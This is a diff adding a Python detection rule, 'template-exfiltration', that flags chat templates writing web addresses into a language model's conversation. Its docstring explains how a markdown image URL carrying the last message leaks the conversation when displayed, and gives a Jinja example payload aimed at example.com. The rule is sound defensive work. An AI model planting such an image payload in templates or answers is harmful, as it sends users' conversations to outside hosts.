@@ -1,0 +1,64 @@
+"""The rule `template-exfiltration`."""
+
+import re
+from collections.abc import Iterator
+from dataclasses import replace
+from typing import ClassVar
+
+from weighbridge.core.finding import Confidence, Finding, Place, Severity
+from weighbridge.core.text import visible
+from weighbridge.formats.reading import Reading
+from weighbridge.formats.template import TemplateReading
+from weighbridge.formats.templatewalk import Text
+from weighbridge.scan.rule import Rule
+
+_URL = re.compile(r"(?:https?|wss?|ftp)://([^\s/<>\"'?#:)]+)[^\s<>\"')]*", re.IGNORECASE)
+_SCHEMAS = frozenset({"json-schema.org", "www.w3.org", "w3.org", "schema.org"})
+"""Hosts whose addresses are names of formats."""
+
+
+class TemplateExfiltration(Rule):
+    """A template puts web addresses into the conversation.
+
+    ## What it does
+    Looks at everything constant that the template writes: an address that runs into data (`https://…?q={{ … }}`), and
+    any other web address. Names of schemas are left out.
+
+    ## Why is this bad?
+    An address with the conversation in it, shown as an image, sends the conversation to its host when the answer is
+    displayed. An address in the prompt makes the model recommend it.
+
+    ## Example
+    ```jinja
+    ![.](https://example.com/?q={{ messages[-1].content | urlencode }})
+    ```
+
+    ## Use instead
+    No addresses. What the model shall know of tools and sites comes from whoever uses it.
+
+    ## Known problems
+    A template may name its maker's site without ill intent. It stays undecided until somebody accepts it.
+    """
+
+    name = "template-exfiltration"
+    summary = "a template writes web addresses, or data into one"
+    severity = Severity.WARNING
+    confidence = Confidence.MEDIUM
+    formats: ClassVar[tuple[str, ...]] = ("template",)
+
+    def look(self, reading: Reading, place: Place) -> Iterator[Finding]:
+        """See `Rule.look`."""
+        found: dict[tuple[int, str], None] = {}
+        for text in reading.texts if isinstance(reading, TemplateReading) else ():
+            found.update(dict.fromkeys((text.line, message) for message in _messages(text)))
+        for line, message in found:
+            yield self.finding(replace(place, line=line), message, doubt=True)
+
+
+def _messages(text: Text) -> Iterator[str]:
+    if text.continues:
+        yield f"writes data into the address {visible(text.text, 100)}"
+        return
+    for match in _URL.finditer(text.text):
+        if match[1].lower() not in _SCHEMAS:
+            yield f"writes the address {visible(match[0], 100)}"
